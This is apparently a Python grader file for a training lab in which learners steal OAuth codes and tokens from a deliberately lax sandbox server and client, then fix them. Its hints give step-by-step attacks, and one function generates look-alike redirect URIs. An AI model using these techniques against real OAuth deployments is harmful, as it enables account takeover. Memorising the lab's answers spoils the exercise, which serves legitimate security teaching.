"""04-oauth: steal codes and tokens from a lax OAuth pair, then fix the server and the client.

Every check works over HTTP against the running apps: the authorization server (``main``),
the client web app (``client``) and the attacker's site (``attacker``). What the server
issued is read from its lab-only log (``/api/_lab/log``: codes and grants, hashed), the way an
investigator would read its database; the victim is the lab's simulated browser of alice.
"""

from __future__ import annotations

import hashlib
import random
import secrets
import time
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode, urlsplit, urlunsplit

import httpx
import jwt

from labkit.attacks import oauth as attack
from labkit.exercises.check import CheckContext, Findings, Target, Verdict
from labkit.exercises.registry import LabDefinition
from labkit.exercises.rules import Rule, merge_rules

__all__ = ["LAB", "RFC7636_CHALLENGE", "RFC7636_VERIFIER"]

LAB = LabDefinition("04-oauth", "04 · OAuth 2.0 and PKCE", "labkit.sandbox.apps.oauth")

VICTIM = "alice@example.com"
SCOPE = "openid email"
#: RFC 7636 Appendix B: the example code_verifier and its S256 code_challenge.
RFC7636_VERIFIER = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
RFC7636_CHALLENGE = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
CODE_TOO_OLD_S = 11 * 60  # RFC 6749 §4.1.2: at most 10 minutes


# -- what a check knows about a running lab -------------------------------------------------
@dataclass(frozen=True)
class Pair:
    server: str
    client: str
    attacker: str
    client_id: str
    redirect_uri: str
    evil_id: str
    evil_secret: str
    target: Target
    rng: random.Random

    def http(self) -> httpx.Client:
        """A fresh browser (own cookie jar, redirects not followed) made by the target, so a
        server error of the server *or* the client web app is seen as a crash."""
        return self.target.client(follow_redirects=False)


def _pair(target: Target, rng: random.Random | None = None) -> Pair:
    urls = target.urls
    with target.client() as http:
        clients = http.get(urls["main"] + "/api/_lab/clients").json()
    (client_id, webapp), *_ = [(k, v) for k, v in clients.items() if v.get("public")]
    (evil_id, evil), *_ = [(k, v) for k, v in clients.items() if "client_secret" in v]
    return Pair(
        urls["main"],
        urls["client"],
        urls["attacker"],
        client_id,
        webapp["redirect_uris"][0],
        evil_id,
        evil["client_secret"],
        target,
        rng or random.Random(),  # noqa: S311 - probe inputs, replayable
    )


class Broken(Exception):
    """A flow a battery needs cannot even start (the fix broke the legitimate path)."""


def _sha(value: str) -> str:
    return hashlib.sha256(value.encode()).hexdigest()[:16]


def _log(pair: Pair) -> dict[str, list[dict[str, Any]]]:
    with pair.http() as http:
        return http.get(pair.server + "/api/_lab/log").json()


def _grant(pair: Pair, token: str) -> dict[str, Any] | None:
    return next((g for g in _log(pair)["grants"] if g["token_sha256"] == _sha(token)), None)


def _issued_code(pair: Pair, code: str) -> dict[str, Any] | None:
    return next((c for c in _log(pair)["codes"] if c["code_sha256"] == _sha(code)), None)


def _fault(response: httpx.Response) -> str:
    try:
        fault = response.json().get("labkitFault", "")
    except (ValueError, AttributeError):
        return ""
    return f" — {fault}" if fault else ""


def _where(response: httpx.Response) -> str:
    location = response.headers.get("location")
    return f" -> {location[:90]}" if location else ""


def _account(pair: Pair, tag: str) -> tuple[str, str]:
    email, password = f"{tag}-{secrets.token_hex(4)}@checks.example", secrets.token_urlsafe(18)
    with pair.http() as http:
        http.post(pair.server + "/api/_lab/accounts", json={"email": email, "password": password})
    return email, password


@contextmanager
def _session(pair: Pair, tag: str) -> Iterator[tuple[httpx.Client, str]]:
    """A browser signed in at the server as a fresh account, closed afterwards."""
    http, email = _signed_in(pair, tag)
    with closing(http):
        yield http, email


def _signed_in(pair: Pair, tag: str) -> tuple[httpx.Client, str]:
    email, password = _account(pair, tag)
    http = pair.http()
    attack.sign_in(http, pair.server, email, password)
    return http, email


def _code(
    pair: Pair,
    http: httpx.Client,
    *,
    challenge: str | None,
    method: str | None = "S256",
    nonce: str | None = None,
) -> str | None:
    """Run the authorization request as ``http``'s user; the code it returns, if any."""
    params = {
        "response_type": "code",
        "client_id": pair.client_id,
        "redirect_uri": pair.redirect_uri,
        "scope": SCOPE,
        "state": secrets.token_urlsafe(16),
    }
    if challenge is not None:
        params["code_challenge"] = challenge
    if method is not None and challenge is not None:
        params["code_challenge_method"] = method
    if nonce is not None:
        params["nonce"] = nonce
    response = http.get(attack.authorize_url(pair.server, **params))
    location = response.headers.get("location", "")
    return attack.query_params(location).get("code") if response.is_redirect else None


def _fresh_code(pair: Pair, http: httpx.Client, nonce: str | None = None) -> tuple[str, str]:
    """A code with a proper S256 challenge, and its verifier."""
    verifier = secrets.token_urlsafe(48)
    code = _code(pair, http, challenge=attack.s256(verifier), nonce=nonce)
    if code is None:
        raise Broken("the server issued no code for a correct authorization request")
    return code, verifier


def _redeem(pair: Pair, code: str, **kwargs: Any) -> httpx.Response:
    kwargs.setdefault("client_id", pair.client_id)
    kwargs.setdefault("redirect_uri", pair.redirect_uri)
    with pair.http() as http:
        return attack.redeem(http, pair.server, code, **kwargs)


def _issued(response: httpx.Response) -> bool:
    try:
        return response.status_code == 200 and "access_token" in response.json()
    except ValueError:
        return False


def _client_me(http: httpx.Client, pair: Pair) -> str | None:
    response = http.get(pair.client + "/me")
    return response.json().get("email") if response.status_code == 200 else None


# -- legitimate flows -----------------------------------------------------------------------
def _legit_battery(pair: Pair, findings: Findings, rule: str | None = None) -> None:
    """A user logs in to the client web app; a correct token request gets working tokens.

    Problems name ``rule`` (the rule of the check that runs this), else the rule of what
    failed: the client login, or a fresh code's redemption."""
    with _session(pair, "user") as (http, email):
        trip = attack.follow(http, pair.client + "/login")
        status = trip.response.status_code if trip.response is not None else None
        findings.expect(
            _client_me(http, pair) == email,
            f"a user could not log in to the client web app (last status {status}"
            f"{_fault(trip.response) if trip.response is not None else ''})",
            "a user logs in to the client web app (code flow, S256 PKCE, state, nonce)",
            rule=rule or "client-login",
        )
        code, verifier = _fresh_code(pair, http, nonce="n-" + secrets.token_hex(8))
        tokens = _redeem(pair, code, code_verifier=verifier)
        if not findings.expect(
            _issued(tokens),
            f"a correct token request was refused ({tokens.status_code}{_fault(tokens)})",
            "a correct token request gets tokens",
            rule=rule or "fresh-code-redeems",
        ):
            return
        body = tokens.json()
        with pair.http() as plain:
            info = plain.get(
                pair.server + "/userinfo",
                headers={"Authorization": f"Bearer {body['access_token']}"},
            )
            keys = jwt.PyJWKSet.from_dict(plain.get(pair.server + "/jwks.json").json())
        findings.expect(
            info.status_code == 200 and info.json().get("email") == email,
            f"/userinfo refused a fresh access token ({info.status_code})",
            "the access token works at /userinfo",
            rule=rule or "fresh-code-redeems",
        )
        kid = jwt.get_unverified_header(body["id_token"]).get("kid")
        claims = jwt.decode(
            body["id_token"], keys[kid].key, algorithms=["ES256", "RS256"], audience=pair.client_id
        )
        findings.expect(
            claims.get("email") == email,
            "the ID token names the wrong user",
            rule=rule or "fresh-code-redeems",
        )


# -- attacks --------------------------------------------------------------------------------
def _token_answer(ctx: CheckContext) -> tuple[str | None, Verdict | None]:
    if not isinstance(ctx.answer, str) or not ctx.answer:
        got = type(ctx.answer).__name__
        return None, Verdict(False, f"expected the access token (a str), got {got}")
    return ctx.answer, None


def _victim_grant(ctx: CheckContext, token: str) -> tuple[Pair, dict[str, Any] | None]:
    pair = _pair(ctx.target)
    return pair, _grant(pair, token)


Judge = Callable[[Pair, dict[str, Any]], tuple[bool, str, str]]


def _alices_token(ctx: CheckContext, how: Judge, *, won: str, lost: str) -> Verdict:
    """The token-stealing attacks: the answer must be an access token the server issued for
    alice, and ``how(pair, grant)`` says whether it was got the intended way
    (ok, problem, observation)."""
    token, bad = _token_answer(ctx)
    if token is None:
        return bad or Verdict(False, "no token")
    pair, grant = _victim_grant(ctx, token)
    findings = Findings()
    if grant is None:
        findings.fail("the server never issued this access token")
        return findings.verdict("", "that is not a token from this server")
    findings.expect(grant["user"] == VICTIM, f"this token is {grant['user']}'s, not alice's")
    findings.expect(*how(pair, grant))
    return findings.verdict(won, lost)


@LAB.check(
    "code-interception",
    title="Intercept alice's code and redeem it without PKCE",
    kind="attack",
    hints=(
        "A public client has no secret: whoever holds a code can redeem it, unless the server "
        "insists on the PKCE code_verifier. oauth.victim_click(server, client + '/login', "
        "intercept=client + '/callback') makes alice log in while a malicious app claims the "
        "callback: the code is in the query of result['intercepted'].",
        "parse_qs(urlsplit(url).query)['code'][0] takes it out; httpx.post(server + '/token', "
        "data={'grant_type': 'authorization_code', 'code': code, 'client_id': client_id, "
        "'redirect_uri': client + '/callback'}) redeems it with no code_verifier. Return "
        "its .json(); the check takes stolen['access_token'].",
        "Ready-made: labkit.attacks.oauth.query_params(url) and oauth.redeem(http, server, "
        "code, client_id=..., redirect_uri=...).",
    ),
    answer_help="the access token you got for alice's intercepted code",
)
def code_interception(ctx: CheckContext) -> Verdict:
    return _alices_token(
        ctx,
        lambda pair, grant: (
            grant["grant_type"] == "authorization_code" and grant["pkce"] == "none",
            f"issued by {grant['grant_type']} with PKCE {grant['pkce']!r}: redeem the code "
            "without any code_verifier",
            "alice's code was redeemed with no code_verifier at all",
        ),
        won="you hold alice's tokens: PKCE was not enforced",
        lost="not an intercepted code yet",
    )


@LAB.check(
    "login-csrf",
    title="Log alice's browser into your own account (no state check)",
    kind="attack",
    hints=(
        "Sign in as carol in your own browser and follow CLIENT + '/login' with "
        "stop_at=redirect_uri: trip.stopped_at is a callback URL with carol's code.",
        "Never deliver it yourself: send it to alice with oauth.victim_click and read "
        "['final']. 'PKCE verification failed' means her browser had a login of its own in "
        "progress (the client sent her verifier with your code); that click ended it, so "
        "forge a new callback and send it again.",
        "Hand in the callback URL; the check asks alice's own browser who she is now.",
    ),
    answer_help="the callback URL (with your code) that you sent to alice",
)
def login_csrf(ctx: CheckContext) -> Verdict:
    url = ctx.answer
    if not isinstance(url, str):
        return Verdict(False, f"expected the forged callback URL (a str), got {type(url).__name__}")
    pair = _pair(ctx.target)
    if not url.startswith(pair.client + "/callback"):
        return Verdict(False, f"the URL must be the client's callback, {pair.client}/callback?...")
    # the effect, in alice's own browser as the learner's click left it (no click of our own)
    me = attack.victim_click(pair.server, pair.client + "/me")["final"] or {}
    findings = Findings()
    body = str(me.get("body", ""))
    findings.expect(
        me.get("status") == 200 and VICTIM not in body,
        f"alice's own browser is not in your account: her /me says {me.get('status')} "
        f"{body[:80]} — send her your callback URL (if her click landed on 'PKCE "
        "verification failed', a login of hers was in progress: forge a new callback and "
        "send it again)",
        f"alice's browser is now logged in to the client as {body}",
    )
    return findings.verdict(
        "login CSRF: alice now works in your account", "alice is not in your account"
    )


@LAB.check(
    "redirect-uri",
    title="Get alice's code sent to your site with a lax redirect_uri",
    kind="attack",
    hints=(
        "The server accepts look-alikes of the registered redirect_uri. Change one part of "
        "it at a time: a sub-path, '/../x', '?next=...', user info before the host "
        "(host:port@attacker-host:port), another port on the same host.",
        "urlsplit(redirect_uri)._replace(netloc=f'{host}:{port}').geturl() edits one part; "
        "in this lab the attacker's site is the client's host on another port "
        "(urlsplit(ATTACKER).port). Try each at /authorize and read the Location.",
        "Ready-made: labkit.attacks.oauth.redirect_uri_tricks(redirect_uri, ATTACKER) "
        "lists seven classic variants.",
    ),
    answer_help="your look-alike redirect URIs (a dict name -> URI, a list, or one URI)",
)
def redirect_uri(ctx: CheckContext) -> Verdict:
    answer = ctx.answer
    uris = list(answer.values()) if isinstance(answer, dict) else answer
    uris = [uris] if isinstance(uris, str) else uris
    if not isinstance(uris, (list, tuple)) or not uris or not all(isinstance(u, str) for u in uris):
        return Verdict(
            False, f"expected redirect URIs (a dict, a list or one str), got {answer!r:.80}"
        )
    pair = _pair(ctx.target)
    landed = []
    for uri in uris[:20]:
        before = len(attack.captured(pair.attacker))
        link = attack.authorize_url(
            pair.server,
            response_type="code",
            client_id=pair.client_id,
            redirect_uri=uri,
            scope=SCOPE,
        )
        attack.victim_click(pair.server, link, fresh=True)
        arrived = [c["query"].get("code") for c in attack.captured(pair.attacker)[before:]]
        stolen = [_issued_code(pair, code) for code in arrived if code]
        if any(c is not None and c["user"] == VICTIM for c in stolen):
            landed.append(uri)
    findings = Findings()
    findings.expect(
        bool(landed),
        f"alice clicked a link with each of your {len(uris)} redirect URI(s); none delivered "
        "a code of hers to the attacker's site (make one land on ATTACKER's origin)",
        f"the server sent alice's code to {', '.join(landed)}",
    )
    return findings.verdict("alice's code came to you", "no code reached the attacker")


@LAB.check(
    "code-reuse",
    title="Redeem a code that was already used",
    kind="attack",
    hints=(
        "Make alice log in normally: oauth.victim_click(SERVER, CLIENT + '/login').",
        "Her history holds the callback URL with the code the client already redeemed: "
        "POST it to /token again as in the first attack; hand in the code.",
        "Ready-made: labkit.attacks.oauth.redeem(http, SERVER, code, client_id=..., "
        "redirect_uri=...).",
    ),
    answer_help="the code you redeemed a second time",
)
def code_reuse(ctx: CheckContext) -> Verdict:
    code = ctx.answer
    if not isinstance(code, str):
        return Verdict(False, f"expected the authorization code (a str), got {type(code).__name__}")
    issued = _issued_code(_pair(ctx.target), code)
    findings = Findings()
    if not findings.expect(issued is not None, "the server never issued this code"):
        return findings.verdict("", "that is not a code from this server")
    assert issued is not None
    findings.expect(
        issued["redemptions"] >= 2,
        f"this code was redeemed {issued['redemptions']} time(s): redeem it again",
        f"one code, {issued['redemptions']} token responses",
    )
    return findings.verdict("a used code still works", "the code was not reused")


@LAB.check(
    "other-client",
    title="Redeem alice's code as your own client (evil-app)",
    kind="attack",
    hints=(
        "evil_id, evil_secret, evil_redirect = lab.facts['evil_client'].split()",
        "Intercept a code of alice's issued to the webapp client, as in the first attack, and "
        "POST it to /token with client_id=evil_id and client_secret=evil_secret in the form; "
        "hand in the access token.",
        "Ready-made: labkit.attacks.oauth.redeem(..., client_id=evil_id, "
        "client_secret=evil_secret).",
    ),
    answer_help="the access token evil-app got for alice's code",
)
def other_client(ctx: CheckContext) -> Verdict:
    return _alices_token(
        ctx,
        lambda pair, grant: (
            grant["client_id"] == pair.evil_id and grant["code_client_id"] == pair.client_id,
            f"issued to {grant['client_id']} for a code of {grant['code_client_id']}: redeem a "
            f"{pair.client_id} code as {pair.evil_id}",
            f"a code issued to {pair.client_id} gave tokens to {pair.evil_id}",
        ),
        won="codes are not bound to their client",
        lost="not another client's code",
    )


@LAB.check(
    "implicit-leak",
    title="Take alice's access token from an implicit-flow URL",
    kind="attack",
    hints=(
        "response_type=token makes the server put the access token in the redirect URL.",
        "Send alice an authorization link with response_type=token (any redirect_uri the "
        "server accepts) and read the Location in her history: "
        "parse_qs(urlsplit(location).fragment)['access_token'][0]; hand it in.",
        "Ready-made: labkit.attacks.oauth.authorize_url(...) builds the link and "
        "oauth.fragment_params(url) reads the fragment.",
    ),
    answer_help="the access token from the URL",
)
def implicit_leak(ctx: CheckContext) -> Verdict:
    return _alices_token(
        ctx,
        lambda pair, grant: (
            grant["grant_type"] == "implicit",
            f"issued by the {grant['grant_type']} grant: use response_type=token",
            "the implicit grant put alice's token in a URL",
        ),
        won="the URL leaked a bearer token",
        lost="not an implicit-flow token",
    )


@LAB.check(
    "plain-downgrade",
    title="Redeem a code protected by plain PKCE from the request alone",
    kind="attack",
    hints=(
        "With code_challenge_method=plain the challenge IS the verifier.",
        "Send alice an authorization request with a plain challenge, intercept the code "
        "(intercept=redirect_uri), and redeem it at /token with code_verifier = the challenge "
        "you saw. Hand in the access token.",
        "Ready-made: labkit.attacks.oauth.authorize_url(..., code_challenge=seen, "
        "code_challenge_method='plain') and oauth.redeem(..., code_verifier=seen).",
    ),
    answer_help="the access token from a plain-PKCE code",
)
def plain_downgrade(ctx: CheckContext) -> Verdict:
    return _alices_token(
        ctx,
        lambda pair, grant: (
            grant["pkce"] == "plain",
            f"PKCE for this token: {grant['pkce']!r}; use a code_challenge_method=plain code",
            "a plain challenge, read from the request, redeemed the code",
        ),
        won="plain PKCE fell to an observer",
        lost="not a plain-PKCE code",
    )


@LAB.check(
    "nonce-replay",
    title="Replay alice's ID token to the client (nonce not checked)",
    kind="attack",
    hints=(
        "The token response of your first attack has an id_token: alice's, for webapp. It "
        "lives 5 minutes: steal_tokens(SERVER, CLIENT) gets a fresh one.",
        "In a fresh browser (a new httpx.Client), GET CLIENT + '/callback' with "
        "params={'id_token': ...}, then /me. Hand in the ID token; the check replays it.",
        "Ready-made: labkit.attacks.oauth.browser() is a fresh browser.",
    ),
    answer_help="alice's ID token (a JWT)",
)
def nonce_replay(ctx: CheckContext) -> Verdict:
    token = ctx.answer
    if not isinstance(token, str) or token.count(".") != 2:
        return Verdict(False, f"expected an ID token (a JWT str), got {type(token).__name__}")
    try:
        claims = jwt.decode(token, options={"verify_signature": False})
    except jwt.PyJWTError:
        claims = {}
    exp = claims.get("exp")
    if isinstance(exp, (int, float)) and exp <= time.time():
        when = time.strftime("%H:%M:%S UTC", time.gmtime(exp))
        return Verdict(
            False,
            f"this ID token expired at {when} ({time.time() - exp:.0f} s ago; ID tokens here "
            "live 5 minutes), so the client rightly refuses it: take a fresh one of alice's "
            "(your steal_tokens(SERVER, CLIENT) from Attack 1) and replay that",
        )
    pair = _pair(ctx.target)
    with pair.http() as http:
        http.get(pair.client + "/callback", params={"id_token": token})
        who = _client_me(http, pair)
    findings = Findings()
    findings.expect(
        who == VICTIM,
        f"replaying the token logged a fresh browser in as {who!r}, not alice",
        "a fresh browser with no login in progress became alice",
    )
    return findings.verdict("the client accepted a replayed ID token", "the replay failed")


# -- rules: what each fix must do, said once ------------------------------------------------
S256_REDEEMS = Rule(
    "s256-redeems",
    "Redeem a code whose S256 challenge matches: BASE64URL(SHA256(verifier)) without `=` "
    "padding equals the challenge (RFC 7636 Appendix B: verifier "
    "`dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk`, challenge "
    "`E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM`).",
)
S256_ONLY = Rule(
    "s256-only",
    "Accept only `code_challenge_method` `S256`: refuse `plain`, and a code whose request named "
    "no method (that means plain, RFC 7636 §4.3).",
)
PKCE_REQUIRED = Rule(
    "pkce-required",
    "Refuse a code redeemed without a `code_verifier`, and a code that had no challenge, "
    "with or without a verifier (RFC 9700 §4.8, the PKCE downgrade).",
)
VERIFIER_MATCHES = Rule(
    "verifier-matches",
    "Refuse every verifier whose S256 hash is not the challenge: a wrong one, one a character "
    "off, and the challenge itself.",
)
VERIFIER_FORMAT = Rule(
    "verifier-format",
    "Refuse a verifier that is not 43–128 unreserved characters (`A-Z a-z 0-9 - . _ ~`, "
    "RFC 7636 §4.1), even when its hash matches.",
)
PKCE_RULES = (S256_REDEEMS, S256_ONLY, PKCE_REQUIRED, VERIFIER_MATCHES, VERIFIER_FORMAT)

NO_PREFIX = Rule(
    "no-prefix-match",
    "Never match a prefix or a pattern: a sub-path, `/..`, or anything appended to the "
    "registered URI is refused (no `startswith`, no regex).",
)
WHOLE_STRING = Rule(
    "whole-string",
    "Compare the whole URI character for character: an added or changed query, a fragment, a "
    "trailing `/`, percent-encoding or another letter case is refused.",
)
SAME_ORIGIN = Rule(
    "same-origin",
    "Refuse another scheme, host or port, and userinfo (`user@host`), even when the path is "
    "the same.",
)
REGISTERED_WORKS = Rule(
    "registered-works", "The registered redirect URI itself, exactly, still gets its code."
)
REDIRECT_RULES = (NO_PREFIX, WHOLE_STRING, SAME_ORIGIN, REGISTERED_WORKS)

SINGLE_USE = Rule(
    "single-use",
    "A code redeems once: take it out of the store with `codes.pop(code)`, so a second "
    "redemption gets nothing.",
)
BOUND_CLIENT = Rule("bound-to-client", "A code redeems only for the `client_id` it was issued to.")
BOUND_REDIRECT = Rule(
    "bound-to-redirect-uri",
    "The token request must repeat the authorization request's `redirect_uri` exactly: "
    "another one, a changed one or none at all is refused.",
)
EXPIRES = Rule("expires", "A code older than 600 seconds (10 minutes) is refused.")
FRESH_CODE = Rule(
    "fresh-code-redeems",
    "A fresh code, redeemed by its own client with its `redirect_uri` and verifier, gets tokens.",
)
CODE_RULES = (SINGLE_USE, BOUND_CLIENT, BOUND_REDIRECT, EXPIRES, FRESH_CODE)

NO_IMPLICIT = Rule(
    "no-implicit",
    'Refuse the implicit flow (`"implicit"`, `response_type=token`): no access token in any URL.',
)
NO_PASSWORD = Rule(
    "no-password-grant",
    'Refuse the password grant (`"password"`) itself, whatever the password: 400 '
    "`unsupported_grant_type`.",
)
CODE_FLOW = Rule("code-flow", 'Allow the authorization code flow (`"authorization_code"`).')
FLOW_RULES = (NO_IMPLICIT, NO_PASSWORD, CODE_FLOW)

CLIENT_LOGIN = Rule(
    "client-login",
    "A user who logs in through the client web app ends up signed in there as themselves.",
)
UNSOLICITED = Rule(
    "unsolicited-refused",
    "Refuse a callback when this browser has no login in progress (`expected` is `None`), "
    "whatever `state` it carries.",
)
STATE_MATCHES = Rule(
    "state-matches",
    "Accept only the exact `state` this browser's login sent: a missing, empty, foreign or "
    "almost-equal one is refused.",
)
STATE_RULES = (UNSOLICITED, STATE_MATCHES, CLIENT_LOGIN)

NONCE_REQUIRED = Rule(
    "nonce-required",
    "Refuse an ID token without a `nonce`, and any ID token when this browser sent no nonce "
    "(no login in progress).",
)
NONCE_MATCHES = Rule(
    "nonce-matches",
    "Accept only the exact nonce this browser's login sent: another login's nonce, or one "
    "almost equal, is refused.",
)
NONCE_RULES = (NONCE_REQUIRED, NONCE_MATCHES, CLIENT_LOGIN)

UNRESERVED = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~"


def _verifier(rng: random.Random, length: int, alphabet: str = UNRESERVED) -> str:
    """A code_verifier of ``length`` characters drawn from ``alphabet`` by the probe's rng."""
    return "".join(rng.choice(alphabet) for _ in range(length))


def _near_miss(value: str, rng: random.Random) -> str:
    """``value`` one character off: changed, dropped, or its case flipped."""
    index = rng.randrange(len(value))
    kind = rng.choice(("change", "drop", "case")) if any(c.isalpha() for c in value) else "drop"
    if kind == "case":
        letters = [i for i, c in enumerate(value) if c.isalpha()]
        index = rng.choice(letters)
        return value[:index] + value[index].swapcase() + value[index + 1 :]
    if kind == "drop":
        return value[:index] + value[index + 1 :]
    other = rng.choice([c for c in UNRESERVED if c != value[index]])
    return value[:index] + other + value[index + 1 :]


# -- fixes: the server ----------------------------------------------------------------------
def _pkce_battery(pair: Pair, findings: Findings) -> None:
    rng = pair.rng
    with _session(pair, "pkce") as (http, _):

        def attempt(challenge: str | None, method: str | None, sent: str | None) -> bool | None:
            """Did a code with this challenge redeem with ``sent``? None: refused at /authorize."""
            code = _code(pair, http, challenge=challenge, method=method)
            if code is None:
                return None
            return _issued(_redeem(pair, code, code_verifier=sent))

        valid = _verifier(rng, rng.randint(43, 128))
        good = {
            "RFC 7636 Appendix B (dBjftJeZ4CVP... for E9Melhoa2Owv...)": (
                RFC7636_VERIFIER, RFC7636_CHALLENGE),
            f"a {len(valid)}-character verifier ({valid[:12]}...)": (valid, attack.s256(valid)),
        }  # fmt: skip
        for label, (verifier, challenge) in good.items():
            findings.expect(
                bool(attempt(challenge, "S256", verifier)),
                f"the right S256 verifier did not redeem its code: {label}",
                f"redeemed with the right S256 verifier: {label}",
                rule=S256_REDEEMS.id,
            )
        verifier = _verifier(rng, rng.randint(43, 128))
        challenge = attack.s256(verifier)
        short = _verifier(rng, rng.randint(8, 42))
        long = _verifier(rng, rng.randint(129, 200))
        odd = _verifier(rng, rng.randint(43, 100), UNRESERVED + "+/=!$ ")
        while not set(odd) - set(UNRESERVED):
            odd = _verifier(rng, len(odd), UNRESERVED + "+/=!$ ")
        # rule: label -> (code_challenge, code_challenge_method, code_verifier sent at /token)
        attempts: dict[str, dict[str, tuple[str | None, str | None, str | None]]] = {
            PKCE_REQUIRED.id: {
                "an S256 code redeemed with no code_verifier (interception)": (
                    challenge, "S256", None),
                "a code requested without PKCE, redeemed without a verifier": (None, None, None),
                "a code requested without PKCE, redeemed with a verifier (RFC 9700 §4.8)": (
                    None, None, verifier),
            },
            VERIFIER_MATCHES.id: {
                "an S256 code redeemed with another verifier": (
                    challenge, "S256", _verifier(rng, len(verifier))),
                "an S256 code redeemed with its verifier one character off": (
                    challenge, "S256", _near_miss(verifier, rng)),
                "an S256 code redeemed with its challenge as the verifier": (
                    challenge, "S256", challenge),
            },
            S256_ONLY.id: {
                "a plain code redeemed with the challenge seen in the request": (
                    verifier, "plain", verifier),
                "a code whose request named no method (plain, RFC 7636 §4.3)": (
                    verifier, None, verifier),
            },
            VERIFIER_FORMAT.id: {
                f"an S256 code for a {len(short)}-character verifier": (
                    attack.s256(short), "S256", short),
                f"an S256 code for a {len(long)}-character verifier": (
                    attack.s256(long), "S256", long),
                f"an S256 code for a verifier with reserved characters ({odd[:16]}...)": (
                    attack.s256(odd), "S256", odd),
            },
        }  # fmt: skip
        for rule, cases in attempts.items():
            for label, (challenge_sent, method, sent) in cases.items():
                issued = attempt(challenge_sent, method, sent)
                if issued is None:
                    findings.saw(f"refused at /authorize: {label}")
                    continue
                findings.expect(
                    not issued, f"tokens issued for {label}", f"refused: {label}", rule=rule
                )


def _word(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 9)))


def _redirect_tricks(pair: Pair) -> dict[str, dict[str, str]]:
    """Variants of the registered redirect URI, generated per run, by the rule they break."""
    rng = pair.rng
    registered = pair.redirect_uri
    reg, evil = urlsplit(registered), urlsplit(pair.attacker)
    path = reg.path or "/"
    letters = [i for i, c in enumerate(path) if c.isalpha()]
    at = rng.choice(letters) if letters else 0
    cased = path[:at] + path[at:].swapcase()[:1] + path[at + 1 :] if letters else path.upper()
    encoded = path[:at] + f"%{ord(path[at]):02X}" + path[at + 1 :] if letters else path + "%2F"
    other_port = rng.choice([p for p in range(8000, 9000) if p != reg.port])
    host = reg.hostname or "localhost"
    swapped = "localhost" if host != "localhost" else "127.0.0.1"
    prefix = {
        "a sub-path": f"{registered}/{_word(rng)}",
        "a '..' path": f"{registered}/../{_word(rng)}",
        "characters appended": registered + rng.choice((".", "-", "_", "~")) + _word(rng),
        "another path that starts the same": registered + _word(rng),
    }
    if "." in reg.netloc:  # a regex's '.' matches any character
        dot = reg.netloc.index(".")
        wild = reg.netloc[:dot] + rng.choice("xz-") + reg.netloc[dot + 1 :]
        prefix["a '.' of the host replaced (regex wildcard)"] = urlunsplit(
            reg._replace(netloc=wild)
        )
    whole = {
        "an extra query": f"{registered}?{_word(rng)}={pair.attacker}",
        "a fragment": f"{registered}#{_word(rng)}",
        "a trailing '/'": registered + "/",
        "another letter case": urlunsplit(reg._replace(path=cased)),
        "a percent-encoded letter": urlunsplit(reg._replace(path=encoded)),
    }
    origin = {
        "userinfo before the attacker's host": urlunsplit(
            reg._replace(netloc=f"{reg.netloc}@{evil.netloc}")
        ),
        "userinfo before the real host": urlunsplit(
            reg._replace(netloc=f"{_word(rng)}@{reg.netloc}")
        ),
        "another port": urlunsplit(reg._replace(netloc=f"{host}:{other_port}")),
        "the attacker's origin, same path": urlunsplit(evil._replace(path=reg.path)),
        "https instead of http": urlunsplit(
            reg._replace(scheme="https" if reg.scheme == "http" else "http")
        ),
        "the other loopback name": urlunsplit(
            reg._replace(netloc=f"{swapped}:{reg.port}" if reg.port else swapped)
        ),
    }
    return {NO_PREFIX.id: prefix, WHOLE_STRING.id: whole, SAME_ORIGIN.id: origin}


def _redirect_battery(pair: Pair, findings: Findings) -> None:
    with _session(pair, "redirect") as (http, _):
        base = {"response_type": "code", "scope": SCOPE, "state": "s-" + secrets.token_hex(8)}
        base["code_challenge"], base["code_challenge_method"] = attack.s256("v" * 43), "S256"

        def authorize(uri: str) -> httpx.Response:
            return http.get(
                attack.authorize_url(
                    pair.server, client_id=pair.client_id, redirect_uri=uri, **base
                )
            )

        for rule, tricks in _redirect_tricks(pair).items():
            for name, uri in tricks.items():
                response = authorize(uri)
                findings.expect(
                    response.status_code == 400 and "location" not in response.headers,
                    f"redirect_uri with {name} ({uri}) got {response.status_code}"
                    f"{_where(response)}",
                    f"{name}: 400 error page, no redirect",
                    rule=rule,
                )
        exact = authorize(pair.redirect_uri)
        location = exact.headers.get("location", "")
        findings.expect(
            exact.is_redirect and location.startswith(pair.redirect_uri + "?"),
            f"the exact registered redirect_uri was refused ({exact.status_code})",
            "the exact registered redirect_uri gets its code",
            rule=REGISTERED_WORKS.id,
        )


def _redirect_variants(pair: Pair) -> dict[str, str | None]:
    rng, registered = pair.rng, pair.redirect_uri
    reg = urlsplit(registered)
    return {
        "another redirect_uri (the attacker's)": pair.attacker + reg.path,
        "an extra query on it": f"{registered}?{_word(rng)}={_word(rng)}",
        "a trailing '/'": registered + "/",
        "a sub-path": f"{registered}/{_word(rng)}",
        "no redirect_uri at all": None,
    }


def _codes_battery(pair: Pair, findings: Findings) -> None:
    with _session(pair, "codes") as (http, _):
        code, verifier = _fresh_code(pair, http)
        first = _redeem(pair, code, code_verifier=verifier)
        if not findings.expect(
            _issued(first),
            f"a fresh code with the right client, redirect_uri and verifier was refused "
            f"({first.status_code} {first.text[:100]})",
            "a fresh code redeems once",
            rule=FRESH_CODE.id,
        ):
            return
        for attempt in ("a second", "a third"):
            again = _redeem(pair, code, code_verifier=verifier)
            findings.expect(
                not _issued(again),
                f"the same code redeemed {attempt} time",
                f"{attempt} redemption of the same code is refused",
                rule=SINGLE_USE.id,
            )
        if not _issued(again):
            with pair.http() as plain:
                bearer = {"Authorization": f"Bearer {first.json()['access_token']}"}
                revoked = plain.get(pair.server + "/userinfo", headers=bearer).status_code == 401
            if revoked:
                findings.saw(
                    "and the tokens of its first redemption were revoked (RFC 6749 §4.1.2)"
                )
        cases: dict[str, tuple[str, dict[str, Any]]] = {
            f"redeemed by another client ({pair.evil_id}, with its own secret)": (
